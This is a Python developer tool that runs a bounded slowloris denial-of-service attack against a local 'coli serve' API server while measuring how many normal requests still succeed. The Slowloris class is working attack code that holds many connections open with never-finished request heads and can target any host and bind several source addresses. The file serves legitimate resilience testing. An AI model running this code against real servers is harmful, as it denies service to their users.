"""Slow-client (slowloris) measurement for `coli serve` (a dev tool, not part of the runtime).

Opens N connections that each send one byte of a request head per interval and never finish it,
reconnecting whenever the server drops one, while a normal client makes one request per tick
(mostly GET /v1/models, every fifth a short chat completion). Prints how many of the normal
requests succeeded. Everything is bounded: the attack stops itself after --duration seconds.

    ./coli serve --model M --port 8000 &
    python3 tools/slowloris.py --port 8000                       # attacker shares 127.0.0.1
    python3 tools/slowloris.py --port 8000 --source 127.0.0.2    # attacker from another address
"""
import argparse
import http.client
import json
import selectors
import socket
import threading
import time
from collections import Counter

HEAD = b"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nX-Pad: "


class Slowloris:
    """`n` dribbling connections to host:port from `sources` (addresses bound round-robin)."""

    def __init__(self, host, port, n, sources=(None,), interval=1.0):
        self.host, self.port, self.n, self.interval = host, port, n, interval
        self.sources = list(sources) or [None]
        self.connects = self.drops = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._loop, name="slowloris", daemon=True)

    def start(self):
        self._thread.start()
        return self

    def stop(self):
        self._stop.set()
        self._thread.join(timeout=10)

    def __enter__(self):
        return self.start()

    def __exit__(self, *exc):
        self.stop()

    def _open(self, sel, i):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        src = self.sources[i % len(self.sources)]
        try:
            if src:
                s.bind((src, 0))
            s.connect_ex((self.host, self.port))
        except OSError:
            s.close()
            return None
        self.connects += 1
        sel.register(s, selectors.EVENT_READ, [i, 0])  # [index, bytes sent]
        return s

    def _close(self, sel, s):
        try:
            sel.unregister(s)
        except (KeyError, ValueError):
            pass
        s.close()
        self.drops += 1

    def _loop(self):
        sel = selectors.DefaultSelector()
        socks = [None] * self.n
        next_tick = time.monotonic()
        try:
            while not self._stop.is_set():
                for i in range(self.n):
                    if socks[i] is None:
                        socks[i] = self._open(sel, i)
                for key, _ in sel.select(timeout=0.05):  # the server answered or closed: start over
                    try:
                        data = key.fileobj.recv(4096)
                    except (BlockingIOError, InterruptedError):
                        continue
                    except OSError:
                        data = b""
                    if not data or data.startswith(b"HTTP/"):
                        socks[key.data[0]] = None
                        self._close(sel, key.fileobj)
                if time.monotonic() >= next_tick:
                    next_tick += self.interval
                    for i, s in enumerate(socks):
                        if s is None:
                            continue
                        state = sel.get_key(s).data
                        byte = HEAD[state[1]:state[1] + 1] or b"a"  # the head never ends
                        try:
                            if s.send(byte):
                                state[1] += 1
                        except (BlockingIOError, InterruptedError):
                            pass  # still connecting
                        except OSError:
                            socks[i] = None
                            self._close(sel, s)
        finally:
            for s in socks:
                if s is not None:
                    s.close()
            sel.close()


def normal_request(host, port, kind, api_key=None, model=None, timeout=15):
    """One request as an ordinary client makes it; returns the HTTP status or an error name."""
    headers = {"Authorization": f"Bearer {api_key}"} if api_key else {}
    conn = http.client.HTTPConnection(host, port, timeout=timeout)
    try:
        if kind == "chat":
            body = {"messages": [{"role": "user", "content": "hi"}], "max_tokens": 2, "temperature": 0}
            if model:
                body["model"] = model
            conn.request("POST", "/v1/chat/completions", json.dumps(body),
                         {**headers, "Content-Type": "application/json"})
        else:
            conn.request("GET", "/v1/models", headers=headers)
        r = conn.getresponse()
        r.read()
        return r.status
    except (OSError, http.client.HTTPException) as e:
        return type(e).__name__
    finally:
        conn.close()


def measure(host, port, duration, tick=1.0, chat_every=5, api_key=None, model=None):
    """Normal requests, one per tick for `duration` s -> Counter of outcomes (200 = success)."""
    outcomes = Counter()
    t_end = time.monotonic() + duration
    i = 0
    while time.monotonic() < t_end:
        t0 = time.monotonic()
        kind = "chat" if chat_every and i % chat_every == chat_every - 1 else "models"
        outcomes[normal_request(host, port, kind, api_key, model)] += 1
        i += 1
        time.sleep(max(0.0, tick - (time.monotonic() - t0)))
    return outcomes


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--host", default="127.0.0.1", help="server address (default 127.0.0.1)")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--connections", type=int, default=200, help="slow connections (default 200)")
    p.add_argument("--duration", type=float, default=60.0, help="seconds to measure (default 60)")
    p.add_argument("--interval", type=float, default=1.0, help="seconds between an attacker's bytes (default 1)")
    p.add_argument("--source", action="append", default=[],
                   help="address the attacker binds (repeatable, round-robin; default: the system's choice)")
    p.add_argument("--api-key", help="key the normal client sends")
    p.add_argument("--model", help="model name the normal client sends")
    a = p.parse_args()
    with Slowloris(a.host, a.port, a.connections, a.source or [None], a.interval) as attack:
        time.sleep(min(3.0, a.duration / 10))  # let the attack fill up first
        outcomes = measure(a.host, a.port, a.duration, api_key=a.api_key, model=a.model)
    total, ok = sum(outcomes.values()), outcomes.get(200, 0)
    print(f"attack: {a.connections} connections, {attack.connects} connects, {attack.drops} dropped by the server")
    print(f"normal client: {ok} of {total} requests succeeded ({100.0 * ok / max(total, 1):.1f} %); "
          f"outcomes: {dict(outcomes)}")


if __name__ == "__main__":
    main()
